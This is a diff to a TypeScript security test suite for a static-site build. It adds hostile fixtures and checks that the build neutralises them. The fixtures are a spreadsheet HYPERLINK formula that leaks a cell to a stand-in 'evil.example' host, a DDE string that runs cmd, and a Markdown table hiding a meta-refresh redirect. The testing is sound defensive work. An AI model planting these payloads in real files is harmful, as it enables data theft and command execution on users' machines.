@@ -5,7 +5,8 @@
  */
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { spawnSync } from 'node:child_process';
-import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { cpSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import Papa from 'papaparse';
 import { tmpdir } from 'node:os';
 import { join, resolve } from 'node:path';
 import type { Browser } from 'playwright-core';
@@ -22,6 +23,12 @@ const LONG = '诚'.repeat(40) + 'A'.repeat(400);
 const RTL = 'مرحبا بالعالم';
 const EMOJI = '👍🏽守信';
 const JS_URL = 'javascript:window.pwned=3';
+/** Spreadsheet formulas a journalist's Excel or WPS would run (OWASP CSV injection). */
+const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"点击查看")';
+const DDE = "+cmd|'/C calc'!A0";
+/** A GFM table whose code span hid a meta refresh from a validator without GFM (issue 15). */
+const GFM_META =
+	'\n\n| 项目 | 说明 |\n|---|---|\n| `x|<meta http-equiv="refresh" content="1;url=https://evil.example/">` | 是 |\n\n&lt;script&gt;window.pwned=4&lt;/script&gt; [出处](https://example.org/ "标题")\n';
 
 let work: string;
 let dist: string;
@@ -55,8 +62,10 @@ beforeAll(async () => {
 	);
 	writeFileSync(
 		join(data, 'evidence', '2022-Q1.csv'),
-		`记录编号,单位编号,指标编号,类型,日期,数量,得分,事项,来源,理由\ne1,t1,1.1,完成,2022-01-15,,,${csvCell(BREAKER)},${csvCell(JS_URL)},\ne2,t2,3.6,事项,2022-02-10,3,,${csvCell(LONG.slice(0, 300))},信用办,\n`,
+		`记录编号,单位编号,指标编号,类型,日期,数量,得分,事项,来源,理由\ne1,t1,1.1,完成,2022-01-15,,,${csvCell(BREAKER)},${csvCell(JS_URL)},\ne2,t2,3.6,事项,2022-02-10,3,,${csvCell(LONG.slice(0, 300))},信用办,\ne3,t2,3.6,事项,2022-02-11,1,,${csvCell(FORMULA)},${csvCell(DDE)},\n`,
 	);
+	const story = join(data, 'exemplars', 'stories', 'c1.mdx');
+	writeFileSync(story, readFileSync(story, 'utf8') + GFM_META);
 	dist = join(work, 'dist');
 	const r = build(data, dist);
 	if (r.status !== 0) throw new Error(r.stdout + r.stderr);
@@ -103,6 +112,50 @@ describe('hostile text in data files', () => {
 		expect(await page.locator('h1').textContent()).toBe(EMOJI);
 		expect(dialogs).toBe(0);
 		await page.close();
+	});
+});
+
+describe('hostile Markdown and spreadsheet formulas (issue 15)', () => {
+	it('renders a story through the allowlist: no meta refresh, no markup from entities, the code span intact', () => {
+		for (const page of htmlPages(dist)) {
+			const html = readFileSync(join(dist, page, page.endsWith('/') ? 'index.html' : ''), 'utf8');
+			// The only http-equiv on a page is the site's own Content-Security-Policy.
+			expect(html).not.toMatch(/<meta[^>]*http-equiv="(?!Content-Security-Policy")/i);
+		}
+		const profile = readFileSync(join(dist, 'exemplars', '2022', 'c1', 'index.html'), 'utf8');
+		expect(profile).toContain(
+			'<code>x|&#x3C;meta http-equiv="refresh" content="1;url=https://evil.example/"></code>',
+		);
+		expect(profile).toContain('&#x3C;script>window.pwned=4&#x3C;/script>');
+		expect(profile).toContain('<a href="https://example.org/" title="标题">出处</a>');
+	});
+
+	it('stays on the profile page: nothing redirects it', async () => {
+		const page = await browser.newPage();
+		await page.goto(url + '/exemplars/2022/c1/');
+		await page.waitForTimeout(2000);
+		expect(page.url()).toBe(url + '/exemplars/2022/c1/');
+		expect(await page.evaluate(() => (window as unknown as { pwned?: number }).pwned)).toBeUndefined();
+		await page.close();
+	});
+
+	it('publishes no live formula in any CSV file, and the original text in JSON', () => {
+		const csvFiles = readdirSync(join(dist, 'data'), { recursive: true, encoding: 'utf8' }).filter((f) =>
+			f.endsWith('.csv'),
+		);
+		expect(csvFiles.length).toBeGreaterThan(5);
+		for (const f of csvFiles) {
+			const rows = Papa.parse<string[]>(readFileSync(join(dist, 'data', f), 'utf8').replace(/^\uFEFF/, ''), {
+				skipEmptyLines: true,
+			}).data;
+			for (const cell of rows.flat())
+				if (/^[=+\-@\t\r]/.test(cell)) expect(cell, f).toMatch(/^[+-]?\d+(\.\d+)?$/);
+		}
+		const evidenceCsv = readFileSync(join(dist, 'data', 'evidence', '2022-Q1.csv'), 'utf8');
+		expect(evidenceCsv).toContain(`"'${FORMULA.replace(/"/g, '""')}"`);
+		expect(evidenceCsv).toContain(`'${DDE}`);
+		const evidenceJson = readFileSync(join(dist, 'data', 'evidence', '2022-Q1.json'), 'utf8');
+		expect(evidenceJson).toContain(JSON.stringify(FORMULA));
 	});
 });
 
